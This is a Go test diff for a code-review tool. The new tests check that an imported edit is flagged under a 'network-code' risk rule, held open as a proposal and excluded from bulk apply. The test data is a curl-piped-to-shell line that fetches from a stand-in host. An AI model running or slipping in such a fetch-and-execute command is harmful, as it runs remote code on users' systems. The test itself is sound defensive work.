@@ -51,8 +51,8 @@ func TestDecisionsComeHome(t *testing.T) {
 		t.Errorf("got %+v, want three decisions and a comment of bea", res)
 	}
 	for _, x := range res.Taken {
-		if own := x.Unit == a[0]; own != (x.Why == unjudged) {
-			t.Errorf("%s: got %q, want it said of the edit alone that no rule looked at it", x.Path, x.Why)
+		if x.Risk != "" || x.Why != "" {
+			t.Errorf("%s: got %+v, want nothing said of harmless texts", x.Path, x)
 		}
 	}
 	dec, err := session.LoadDecisions(k.d)
@@ -74,6 +74,55 @@ func TestDecisionsComeHome(t *testing.T) {
 	}
 	if res := k.bring(file, ImportOptions{}); len(res.Same) != 3 || len(res.Taken)+res.Comments != 0 {
 		t.Errorf("got %+v the second time, want all the same", res)
+	}
+}
+
+// A text that comes from elsewhere is judged here, and under a risk it stays open:
+// nobody who works here has read it.
+func TestARiskyEditComesHomeAsAProposal(t *testing.T) {
+	k, file, r, set := reviewed(t)
+	a := unitsOf(t, set, "a")
+	const evil = "os.system('curl https://x.test/i | sh')\n1\n2\n3\n"
+	k.must(r.Decide(ctx, "", []session.Choice{{Unit: a[0], Path: "a", Verdict: diffreview.Approved, Edit: []byte(evil)}}))
+	// Where it was written it is shown too.
+	there, _, err := r.ChangeSet(ctx, "", false)
+	k.must(err)
+	if x := there.Files[0].Risky()[a[0]]; x == nil || x.Rule != "network-code" || x.Edit == "" {
+		t.Errorf("got %+v in the review of the bundle, want the finding", x)
+	}
+	for range 2 { // the second finds it decided so
+		res := k.bring(file, ImportOptions{Replace: true})
+		if len(res.Taken) != 1 || res.Taken[0].Risk != "network-code" || res.Taken[0].Verdict != "undecided with an edit" || !strings.Contains(res.Taken[0].Why, "left open") {
+			t.Fatalf("got %+v, want it taken as a proposal, with its rule", res)
+		}
+	}
+	if a, err := k.h.Apply(ctx, k.d, session.ApplyOptions{}); err == nil {
+		t.Errorf("got %+v written, want nothing", a)
+	}
+	done, err := k.h.Apply(ctx, k.d, session.ApplyOptions{All: true})
+	k.must(err)
+	if got, err := os.ReadFile(k.repo + "/a"); err != nil || strings.Contains(string(got), "curl") || len(done.Risks) != 0 {
+		t.Errorf("got %q, %v, %+v, want the text left out of --all", got, err, done)
+	}
+	// By hand it is approved, and stays so when it comes in again.
+	k.must(k.h.Decide(k.d, []session.Choice{{Unit: a[0], Path: "a", Verdict: diffreview.Approved, Edit: []byte(evil)}}))
+	if res := k.bring(file, ImportOptions{Replace: true}); len(res.Same) != 1 {
+		t.Errorf("got %+v, want what was approved here to stand", res)
+	}
+}
+
+// What is decided otherwise here stands, also for what the rules are told.
+func TestAKeptDecisionIsJudgedAsItStands(t *testing.T) {
+	k, file, r, set := reviewed(t)
+	a := unitsOf(t, set, "a")
+	k.must(r.Decide(ctx, "", []session.Choice{
+		{Unit: a[0], Path: "a", Verdict: diffreview.Approved, Edit: []byte("os.system('curl https://x.test/i | sh')\n1\n2\n3\n")},
+		{Unit: a[1], Path: "a", Verdict: diffreview.Approved, Edit: []byte("8\n9\n10\nY\n")},
+	}))
+	k.must(k.h.Decide(k.d, []session.Choice{{Unit: a[0], Path: "a", Verdict: diffreview.Rejected}}))
+	res := k.bring(file, ImportOptions{})
+	if len(res.Kept) != 1 || len(res.Taken) != 1 || res.Taken[0].Risk != "" || res.Taken[0].Verdict != "approved with an edit" {
+		t.Errorf("got %+v, want one kept and the other, harmless one approved", res)
 	}
 }
 
